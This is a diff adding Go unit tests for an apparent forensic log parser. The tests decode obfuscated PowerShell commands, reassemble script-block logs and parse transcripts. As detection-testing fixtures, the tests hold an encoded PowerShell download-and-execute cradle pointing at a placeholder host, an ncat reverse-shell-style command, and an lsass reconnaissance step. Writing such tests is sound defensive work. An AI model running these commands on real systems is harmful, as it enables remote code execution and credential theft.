@@ -0,0 +1,120 @@
+package plugin
+
+import (
+	"testing"
+	"time"
+)
+
+const encodedIEX = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAvAGEAJwApAA=="
+
+func TestDecodeEncodedCommand(t *testing.T) {
+	want := "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
+	for _, cmd := range []string{
+		"powershell.exe -nop -w hidden -enc " + encodedIEX,
+		"powershell -EncodedCommand " + encodedIEX,
+		`powershell /e "` + encodedIEX + `"`,
+		"pwsh -ec " + encodedIEX,
+	} {
+		if got := decodeEncodedCommand(cmd); got != want {
+			t.Errorf("decodeEncodedCommand(%q) = %q", cmd, got)
+		}
+	}
+	if got := decodeEncodedCommand("powershell -ExecutionPolicy Bypass -File run.ps1"); got != "" {
+		t.Errorf("unexpected decode %q", got)
+	}
+}
+
+func TestAnnotateEncodedCommand(t *testing.T) {
+	want := "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
+	for _, tc := range []struct {
+		details map[string]string
+		decoded string
+	}{
+		{map[string]string{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "CommandLine": "powershell -enc " + encodedIEX}, want},
+		{map[string]string{"NewProcessName": `C:\Program Files\PowerShell\7\pwsh.exe`, "CommandLine": "pwsh /e " + encodedIEX}, want},
+		{map[string]string{"ImagePath": `"C:\Windows\System32\WindowsPowerShell\v1.0\PowerShell.exe" -e ` + encodedIEX}, want},
+		{map[string]string{"ParentImage": `C:\Windows\explorer.exe`, "ParentCommandLine": "powershell -enc " + encodedIEX}, ""},
+		// Other tools' -e switches take arguments that look like base64.
+		{map[string]string{"Image": `C:\Program Files\7-Zip\7z.exe`, "CommandLine": "7z.exe x archive.7z -e ExtractedFiles"}, ""},
+		{map[string]string{"CommandLine": `C:\tools\ncat.exe -e cmdexeabcdefgh 10.0.0.5 4444`}, ""},
+	} {
+		annotateEncodedCommand(tc.details, "CommandLine", "ImagePath", "ParentCommandLine")
+		if got := tc.details["DecodedCommand"]; got != tc.decoded {
+			t.Errorf("%v: DecodedCommand = %q, want %q", tc.details, got, tc.decoded)
+		}
+	}
+}
+
+func TestScriptBlockAssembler(t *testing.T) {
+	a := newScriptBlockAssembler()
+	part := func(n, recordID int, text string) scriptBlockPart {
+		return scriptBlockPart{
+			Time:     time.Unix(int64(recordID), 0),
+			RecordID: uint64(recordID),
+			Details: map[string]string{
+				"ScriptBlockId":   "abc",
+				"MessageNumber":   string(rune('0' + n)),
+				"MessageTotal":    "3",
+				"ScriptBlockText": text,
+			},
+		}
+	}
+	// The EVTX parser walks records newest first.
+	if _, ok := a.Add(part(3, 12, "ring')")); ok {
+		t.Fatal("block completed early")
+	}
+	if _, ok := a.Add(part(2, 11, "adSt")); ok {
+		t.Fatal("block completed early")
+	}
+	block, ok := a.Add(part(1, 10, "IEX (iwr).Downlo"))
+	if !ok {
+		t.Fatal("block not completed")
+	}
+	if block.Details["ScriptBlockText"] != "IEX (iwr).DownloadString')" || block.RecordID != 10 {
+		t.Errorf("assembled %q from record %d", block.Details["ScriptBlockText"], block.RecordID)
+	}
+
+	a.Add(part(2, 21, "tail"))
+	flushed := a.Flush()
+	if len(flushed) != 1 || flushed[0].Details["_Partial"] != "true" || flushed[0].Details["Fragments"] != "1/3" {
+		t.Errorf("flush = %+v", flushed)
+	}
+}
+
+func TestParseTranscript(t *testing.T) {
+	text := "**********************\r\n" +
+		"Windows PowerShell transcript start\r\n" +
+		"Start time: 20230105101500\r\n" +
+		"Username: CORP\\bob\r\n" +
+		"Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\r\n" +
+		"Process ID: 4242\r\n" +
+		"**********************\r\n" +
+		"Transcript started, output file is C:\\Users\\bob\\Documents\\t.txt\r\n" +
+		"PS C:\\Users\\bob> whoami\r\n" +
+		"corp\\bob\r\n" +
+		"**********************\r\n" +
+		"Command start time: 20230105101620\r\n" +
+		"**********************\r\n" +
+		"PS C:\\Users\\bob> Get-Process lsass\r\n" +
+		"**********************\r\n" +
+		"Windows PowerShell transcript end\r\n" +
+		"End time: 20230105102000\r\n" +
+		"**********************\r\n"
+
+	tr := parseTranscript(text)
+	if tr.Header["Username"] != `CORP\bob` || tr.Header["Process ID"] != "4242" {
+		t.Errorf("header = %v", tr.Header)
+	}
+	if len(tr.Commands) != 2 {
+		t.Fatalf("expected 2 commands, got %+v", tr.Commands)
+	}
+	if c := tr.Commands[0]; c.Command != "whoami" || c.Exact || len(c.Output) != 1 {
+		t.Errorf("first command = %+v", c)
+	}
+	if c := tr.Commands[1]; c.Command != "Get-Process lsass" || !c.Exact || c.Time.Format(transcriptTimeLayout) != "20230105101620" {
+		t.Errorf("second command = %+v", c)
+	}
+	if tr.End.Format(transcriptTimeLayout) != "20230105102000" {
+		t.Errorf("end = %v", tr.End)
+	}
+}